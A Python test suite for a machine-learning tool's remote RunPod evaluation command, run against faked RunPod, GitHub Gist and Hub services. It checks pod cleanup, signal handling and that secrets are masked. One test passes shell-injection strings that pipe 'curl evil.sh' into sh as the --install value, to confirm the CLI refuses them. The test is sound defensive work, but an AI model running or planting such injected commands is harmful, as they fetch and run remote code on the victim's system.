"""`moelab eval --remote runpod` end to end through the real CLI, with RunPod and GitHub faked on loopback.

The pod's container is played by `PodContainer`: when the fake RunPod deploys a pod, it runs the pod entry
(`python -m moelab.eval.pod`) with exactly the environment the SDK sent, plus what RunPod itself adds; the Hub
is FakeHub, the Gist API FakeGitHub. Only the network is faked.
"""

from __future__ import annotations

import json
import os
import shlex
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from fakes.github import FakeGitHub
from fakes.hub import FakeHub
from fakes.runpod import FakePod, FakeRunPod

from moelab.eval import EvalReport

USER_KEY = "rpa_CANARY_user_7f3b2c"  # the user's RunPod key: must never leave the local process
POD_KEY = "rpa_podscoped_1111"  # the key RunPod gives a pod
GITHUB_TOKEN = "ghp_CANARY_github_91ad"
HF_TOKEN = "hf_CANARY_hub_5a5a"
CANARIES = (USER_KEY, GITHUB_TOKEN, HF_TOKEN)
MODEL_ID = "moelab-test/tiny-moe"
TASKS = "bigbench_navigate,bigbench_snarks"
GPU = "NVIDIA GeForce RTX 4090"
MOELAB = [sys.executable, "-m", "moelab"]  # the entry point, as the `moelab` script runs it


def restore_default_sigint() -> None:
    # A test run started in the background inherits an ignored SIGINT; the CLI under test must see Ctrl-C.
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.fixture
def runpod_api():
    with FakeRunPod(USER_KEY, POD_KEY) as api:
        yield api


@pytest.fixture
def github_api():
    with FakeGitHub(token=GITHUB_TOKEN) as gh:
        yield gh


@pytest.fixture
def cli_env(runpod_api, github_api) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN", "HF_TOKEN")}
    env.update(RUNPOD_API_BASE_URL=runpod_api.url, RUNPOD_API_KEY=USER_KEY, GITHUB_TOKEN=GITHUB_TOKEN,
               HF_TOKEN=HF_TOKEN, GITHUB_API_URL=github_api.url, MOELAB_REMOTE_POLL_S="0.1", COLUMNS="300")
    return env


def remote_eval_args(*extra: str) -> list[str]:
    return [*MOELAB, "eval", MODEL_ID, "--remote", "runpod", "--tasks", TASKS, "--limit", "2", "--gpu", GPU, *extra]


def run_cli(args: list[str], env: dict, cwd: Path, timeout_s: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(args, env=env, cwd=cwd, capture_output=True, text=True, timeout=timeout_s,
                          preexec_fn=restore_default_sigint)


def the_pod(api: FakeRunPod) -> FakePod:
    assert len(api.pods) == 1, f"expected one pod, RunPod has {list(api.pods)}"
    return next(iter(api.pods.values()))


def assert_terminated_once_by_us(api: FakeRunPod) -> FakePod:
    pod = the_pod(api)
    assert pod.terminated
    assert api.terminate_calls(pod.id, USER_KEY) == 1
    return pod


def assert_no_secrets(*texts: str, files_under: Path | None = None) -> None:
    if files_under is not None:
        texts += tuple(f.read_text(errors="replace") for f in files_under.rglob("*") if f.is_file())
    for text in texts:
        for canary in CANARIES:
            assert canary not in text


# --- dry run and option checks ---------------------------------------------------------------------------------

def test_dry_run_prints_the_pod_with_secrets_masked_and_creates_nothing(tmp_path, cli_env, runpod_api, github_api):
    result = run_cli(remote_eval_args("--dry-run", "--gpu-count", "2", "--cloud", "community"), cli_env, tmp_path)

    assert result.returncode == 0, result.stderr
    out = " ".join(result.stdout.split())
    for shown in (GPU, "COMMUNITY", "runpod/pytorch", 'python -c "$MOELAB_BOOTSTRAP"', "<moelab/eval/bootstrap.py,",
                  "env MOELAB_WHEEL_FILE", "moelab-0.1.0-py3-none-any.whl.b64", "runpodctl remove pod $RUNPOD_POD_ID",
                  MODEL_ID, "env GITHUB_TOKEN", "env HF_TOKEN", "***"):
        assert shown in out
    assert "RUNPOD_API_KEY" not in out  # the user's RunPod key never goes to the pod
    assert "warning" not in result.stderr
    assert_no_secrets(result.stdout, result.stderr, files_under=tmp_path)
    assert runpod_api.calls == [] and github_api.requests == []


def test_dry_run_warns_about_missing_secrets_and_shows_a_checked_install(tmp_path, cli_env, runpod_api, github_api):
    env = {k: v for k, v in cli_env.items() if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN")}
    result = run_cli(remote_eval_args("--dry-run", "--install", "moelab[eval]==0.1.0"), env, tmp_path)

    assert result.returncode == 0, result.stderr
    err = " ".join(result.stderr.split())
    assert "warning: RUNPOD_API_KEY is not set" in err and "warning: GITHUB_TOKEN is not set" in err
    assert "env MOELAB_INSTALL" in result.stdout and "moelab[eval]==0.1.0" in result.stdout
    assert "MOELAB_WHEEL_FILE" not in result.stdout


@pytest.mark.parametrize("install", ['moelab"; curl evil.sh | sh; "', "$(curl evil.sh)", "moelab[eval]==", "a b"])
def test_an_install_that_is_not_one_pip_argument_is_refused(install, tmp_path, cli_env, runpod_api, github_api):
    result = run_cli(remote_eval_args("--install", install), cli_env, tmp_path)

    assert result.returncode == 2
    assert f"--install '{install}' is not" in result.stderr
    assert runpod_api.calls == [] and github_api.requests == []


def test_a_local_folder_needs_push_and_nothing_is_created(tmp_path, cli_env, runpod_api, github_api):
    folder = tmp_path / "my-moe"
    folder.mkdir()
    result = run_cli([*MOELAB, "eval", str(folder), "--remote", "runpod"], cli_env, tmp_path)

    assert result.returncode == 2
    assert "is a local folder, which the pod cannot read; add --push ORG/NAME" in " ".join(result.stderr.split())
    assert runpod_api.calls == [] and github_api.requests == []


# --- failure paths: the pod is terminated exactly once, the gist is removed, no secret shows ------------------

def test_an_api_error_on_create_leaves_no_pod_and_no_gist(tmp_path, cli_env, runpod_api, github_api):
    runpod_api.create_error = "There are no longer any instances available with the requested specifications."
    result = run_cli(remote_eval_args(), cli_env, tmp_path)

    assert result.returncode == 2
    assert "RunPod API failed to create the pod: There are no longer any instances available" in \
        " ".join(result.stderr.split())
    assert runpod_api.pods == {} and github_api.gists == {}
    assert_no_secrets(result.stdout, result.stderr, files_under=tmp_path)


def test_a_pod_created_behind_a_lost_answer_is_found_by_name_and_terminated(tmp_path, cli_env, runpod_api):
    runpod_api.lose_create_response = True
    result = run_cli(remote_eval_args(), cli_env, tmp_path)

    assert result.returncode == 2
    assert "RunPod API failed to create the pod" in result.stderr
    assert_terminated_once_by_us(runpod_api)


@pytest.mark.parametrize("fault, message", [
    ("never ready", "never became ready in 0.02 min"),
    ("no report", "no report from pod fakepod0001 within --timeout-min 0.02"),
    ("container exits", "container stopped without sending a report"),
    ("api errors", "RunPod API failed to report the pod's state 3 times in a row: upstream connect error"),
])
def test_failures_terminate_the_pod_exactly_once(fault, message, tmp_path, cli_env, runpod_api, github_api):
    if fault == "never ready":
        runpod_api.ready_after_polls = None
    elif fault == "container exits":
        runpod_api.exited_after_polls = 2
    elif fault == "api errors":
        runpod_api.poll_error = "upstream connect error or disconnect/reset before headers"
    result = run_cli(remote_eval_args("--timeout-min", "0.02"), cli_env, tmp_path)

    assert result.returncode == 2, result.stderr
    err = " ".join(result.stderr.split())
    assert message in err
    assert "pod fakepod0001: terminated" in err
    assert_terminated_once_by_us(runpod_api)
    assert github_api.gists == {}  # the run's placeholder gist is deleted
    assert not list(tmp_path.rglob("*.json"))  # no report
    assert_no_secrets(result.stdout, result.stderr, files_under=tmp_path)


def test_a_failed_termination_is_loud_with_the_pod_id_and_the_removal_command(tmp_path, cli_env, runpod_api):
    runpod_api.ready_after_polls = None
    runpod_api.terminate_error = "Something went wrong. Please try again later or contact support."
    result = run_cli(remote_eval_args("--timeout-min", "0.02"), cli_env, tmp_path)

    assert result.returncode == 2
    err = " ".join(result.stderr.split())
    assert "POD STILL RUNNING AND BILLING: pod fakepod0001 could not be terminated" in err
    assert "`runpodctl remove pod fakepod0001`" in err and "console.runpod.io/pods" in err
    assert "Before that, the run had failed: pod fakepod0001 never became ready" in err
    assert not the_pod(runpod_api).terminated
    assert_no_secrets(result.stdout, result.stderr)


def test_keep_pod_warns_and_leaves_the_pod(tmp_path, cli_env, runpod_api):
    runpod_api.ready_after_polls = None
    result = run_cli(remote_eval_args("--timeout-min", "0.02", "--keep-pod"), cli_env, tmp_path)

    assert result.returncode == 2
    err = " ".join(result.stderr.split())
    assert "WARNING --keep-pod" in err and "pod fakepod0001: kept running" in err
    assert runpod_api.terminate_calls("fakepod0001") == 0
    assert the_pod(runpod_api).env["MOELAB_KEEP_POD"] == "1"


@pytest.mark.parametrize("signum, exit_code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_to_the_local_process_terminates_the_pod(signum, exit_code, tmp_path, cli_env, runpod_api):
    runpod_api.ready_after_polls = 3
    process = subprocess.Popen(remote_eval_args(), env=cli_env, cwd=tmp_path, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, preexec_fn=restore_default_sigint)
    try:
        runpod_api.wait_for(lambda: any(p.polls >= 4 for p in runpod_api.pods.values()))
        process.send_signal(signum)
        out, err = process.communicate(timeout=60)
    finally:
        process.kill()

    assert process.returncode == exit_code
    assert "pod fakepod0001: running" in err and "pod fakepod0001: terminated" in " ".join(err.split())
    assert_terminated_once_by_us(runpod_api)
    assert_no_secrets(out, err)


def test_ctrl_c_while_the_create_request_is_in_flight_still_terminates_the_pod(tmp_path, cli_env, runpod_api):
    runpod_api.delay_s = 1.0  # a slow API: gpuTypes, then podFindAndDeployOnDemand, each take a second
    process = subprocess.Popen(remote_eval_args(), env=cli_env, cwd=tmp_path, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, preexec_fn=restore_default_sigint)
    try:
        runpod_api.wait_for(lambda: runpod_api.received >= 2)  # the create request has arrived, not yet answered
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
    finally:
        process.kill()

    assert process.returncode == 130
    assert "pod fakepod0001: terminated" in err
    assert_terminated_once_by_us(runpod_api)


def test_the_pod_entry_posts_its_error_and_removes_its_own_pod(tmp_path, runpod_api, github_api, monkeypatch):
    """The pod side alone (its local side gone): the gist gets the error and the pod removes itself."""
    import runpod

    from moelab.eval.remote import GistChannel

    monkeypatch.setenv("GITHUB_API_URL", github_api.url)
    monkeypatch.setenv("RUNPOD_API_BASE_URL", runpod_api.url)
    monkeypatch.setattr(runpod, "api_key", USER_KEY)
    channel = GistChannel.create(GITHUB_TOKEN, MODEL_ID)
    pod_id = runpod.create_pod("moelab-eval-test", "runpod/pytorch", GPU)["id"]
    env = {**{k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "HF_TOKEN")},
           "MOELAB_MODEL": MODEL_ID, "MOELAB_EVAL_SETTINGS": '{"tasks": ["bigbench_navigate"], "shots": 5}',
           "MOELAB_GIST_ID": channel.gist_id, "GITHUB_TOKEN": GITHUB_TOKEN,
           "RUNPOD_POD_ID": pod_id, "RUNPOD_API_KEY": POD_KEY}
    result = subprocess.run([sys.executable, "-m", "moelab.eval.pod"], env=env, cwd=tmp_path, capture_output=True,
                            text=True, timeout=120)

    assert result.returncode == 1
    error = github_api.gists[channel.gist_id]["files"]["moelab-error.txt"]["content"]
    assert "TypeError" in error and "shots" in error
    assert runpod_api.pods[pod_id].terminated and runpod_api.terminate_calls(pod_id, POD_KEY) == 1
    assert_no_secrets(result.stdout, result.stderr, error)


# --- the full round trip: push, the pod evaluates and posts to the gist, the report comes back ------------------

@pytest.fixture(scope="module")
def moe_dir(tiny_moe_dir) -> Path:
    return tiny_moe_dir


@pytest.fixture
def hub(cli_env, tmp_path):
    """The Hub, faked; the local CLI pushes to it and the pod downloads from it (no Xet: the fake speaks LFS)."""
    with FakeHub(token=HF_TOKEN, user="moelab-test") as fake:
        cli_env.update(HF_ENDPOINT=fake.endpoint, HF_HUB_DISABLE_XET="1", HF_HOME=str(tmp_path / "local-hf"))
        yield fake


class PodContainer:
    """Plays RunPod's side of a pod: its container runs the pod's start command, and dies when the pod is terminated.

    The container's image is a fresh virtualenv whose Python sees the host's packages (torch, lm-eval, ...) but not
    moelab: the start command must install moelab itself, from what the local side sent. pip runs offline
    (--no-index --no-deps, through pip's own environment variables); PIP_FORCE_REINSTALL because the host's
    editable moelab counts as installed for a venv that sees the host's packages.
    """

    def __init__(self, runpod_api: FakeRunPod, hub: FakeHub, folder: Path):
        self.runpod_api, self.hub, self.folder = runpod_api, hub, folder
        self.log = folder / "pod.log"
        self.venv = folder / "venv"
        subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", "--without-pip", str(self.venv)],
                       check=True)
        self.processes: dict[str, subprocess.Popen] = {}
        runpod_api.on_deploy, runpod_api.on_terminate = self.start, self.stop

    def start(self, pod: FakePod) -> None:
        host = {k: v for k, v in os.environ.items()
                if k not in ("RUNPOD_API_KEY", "GITHUB_TOKEN", "HF_TOKEN", "PYTHONPATH", "MOELAB_CACHE")}
        env = {**host, **pod.env,  # what the SDK sent, as the container sees it
               "PATH": f"{self.venv / 'bin'}{os.pathsep}{host['PATH']}",
               "PIP_NO_INDEX": "1", "PIP_NO_DEPS": "1", "PIP_FORCE_REINSTALL": "1",
               "RUNPOD_POD_ID": pod.id, "RUNPOD_API_KEY": POD_KEY, "RUNPOD_API_BASE_URL": self.runpod_api.url,
               # the pod's network reaches the fake Hub; its image holds the task data
               "HF_ENDPOINT": self.hub.endpoint, "HF_HUB_DISABLE_XET": "1", "HF_HOME": str(self.folder / "pod-hf"),
               "MOELAB_DATA_DIR": "pkg:moelab/data"}
        start = pod.spec["dockerArgs"]
        assert start.startswith("bash -c ") and "sleep infinity" in start
        with self.log.open("a") as log:
            self.processes[pod.id] = subprocess.Popen(shlex.split(start), env=env, stdout=log,
                                                      stderr=subprocess.STDOUT, cwd=self.folder,
                                                      start_new_session=True)  # the shell, its python and sleep

    def stop(self, pod: FakePod) -> None:
        process = self.processes.get(pod.id)
        if process is not None and process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)

    def wait(self) -> None:
        for process in self.processes.values():
            process.wait(timeout=60)

    def installed_moelab(self) -> Path:
        return next(self.venv.glob("lib/python*/site-packages/moelab/__init__.py"))


@pytest.fixture
def pod_container(runpod_api, hub, tmp_path):
    folder = tmp_path / "pod"
    folder.mkdir()
    container = PodContainer(runpod_api, hub, folder)
    yield container
    for pod in runpod_api.pods.values():
        container.stop(pod)
    container.wait()


def test_round_trip_push_evaluate_on_the_pod_and_read_the_report_back(tmp_path, moe_dir, cli_env, runpod_api,
                                                                      github_api, hub, pod_container):
    args = remote_eval_args("--push", MODEL_ID, "--timeout-min", "3")
    args[args.index(MODEL_ID)] = str(moe_dir)
    result = run_cli(args, cli_env, tmp_path, timeout_s=240)
    pod_container.wait()
    pod_log = pod_container.log.read_text()

    assert result.returncode == 0, result.stderr + pod_log
    assert hub.files[MODEL_ID]["config.json"] == (moe_dir / "config.json").read_bytes()  # pushed first
    report_path = tmp_path / "reports" / "tiny-moe" / "nous.json"  # where a local run writes it
    report = EvalReport.load(report_path)
    assert [r.task for r in report.results] == TASKS.split(",")
    assert all(r.n == 2 and 0 <= r.value <= 1 for r in report.results) and report.limited
    assert report.model == MODEL_ID and report.settings.limit == 2 and report.settings.device == "cpu"
    assert report.recipe["experts"][0]["name"] == "math"  # from the local build, which the pod never saw

    gist = github_api.gists[report.gist_id]
    assert not gist["public"]
    assert sorted(gist["files"]) == ["tiny-moe-Nous.md", "tiny-moe-Nous.report.json"]  # AutoEval's file first
    assert "### Bigbench" in gist["files"]["tiny-moe-Nous.md"]["content"]
    assert json.loads(gist["files"]["tiny-moe-Nous.report.json"]["content"])["results"] == \
        json.loads(report_path.read_text())["results"]

    pod = the_pod(runpod_api)
    # Removed by itself (pod key) or by us, whichever came first; a second podTerminate of a gone pod fails.
    assert pod.terminated and runpod_api.terminate_calls(pod.id, USER_KEY) <= 1
    assert pod.env["GITHUB_TOKEN"] == GITHUB_TOKEN and pod.env["HF_TOKEN"] == HF_TOKEN  # secrets travel as env
    assert USER_KEY not in json.dumps(pod.spec)
    assert pod.spec["gpuTypeId"] == GPU and pod.spec["cloudType"] == "SECURE" and pod.spec["containerDiskInGb"] == 100

    # The pod installed the wheel the local side built from this source into its own environment, offline.
    assert "installing moelab from /" in pod_log and "moelab-0.1.0-py3-none-any.whl[eval]" in pod_log
    assert f"moelab {pod_container.installed_moelab().parent}" in pod_log
    assert (pod_container.installed_moelab().parent / "eval" / "pod.py").read_text() == \
        (Path(__file__).parents[1] / "moelab" / "eval" / "pod.py").read_text()

    err = " ".join(result.stderr.split())
    assert "pod fakepod0001: created" in err and "report received" in err and "$0.69/h" in err
    assert " navigate " in result.stdout  # the report view lists tasks by group, without the group prefix
    assert_no_secrets(result.stdout, result.stderr, pod_log, json.dumps(github_api.gists), files_under=tmp_path)


def test_a_failure_inside_the_pod_comes_back_as_the_error(tmp_path, cli_env, runpod_api, github_api, pod_container):
    args = remote_eval_args("--timeout-min", "3")
    args[args.index(MODEL_ID)] = "moelab-test/no-such-model"
    result = run_cli(args, cli_env, tmp_path, timeout_s=240)
    pod_container.wait()

    assert result.returncode == 2
    err = " ".join(result.stderr.split())
    assert "the evaluation failed on pod fakepod0001: cannot load model 'moelab-test/no-such-model'" in err
    assert the_pod(runpod_api).terminated
    assert github_api.gists == {}
    assert_no_secrets(result.stdout, result.stderr, pod_container.log.read_text(), files_under=tmp_path)
